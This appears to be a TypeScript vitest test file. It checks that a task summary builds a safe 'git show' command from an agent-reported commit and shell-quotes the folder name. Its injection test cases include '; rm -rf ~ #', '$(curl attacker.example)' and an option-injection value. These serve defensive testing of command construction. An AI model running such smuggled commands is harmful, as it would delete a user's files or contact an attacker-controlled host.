import type { Task } from '@taskwright/schema';
import { expect, test } from 'vitest';
import { summarize } from '../src/summary.ts';

function ended(commit: string): Task {
  return { metadata: { name: 'fix' }, spec: {}, status: { phase: 'Succeeded', results: { commit } } } as unknown as Task;
}

test.each(['; rm -rf ~ #', '$(curl attacker.example)', '--ext-diff=x', 'HEAD', '0123456789'])('a commit that an agent reports as %j is not part of a command to type', (commit) => {
  expect(summarize(ended(commit), () => 'shop.git').look).toBeUndefined();
});

test.each([['a/shop.git', 'a/shop.git'], ["my work/it's; here.git", "'my work/it'\\''s; here.git'"]])('the folder %j is one word of the command to type', (folder, word) => {
  expect(summarize(ended('a'.repeat(40)), () => folder).look).toBe(`git --git-dir ${word} show aaaaaaaaaa`);
});
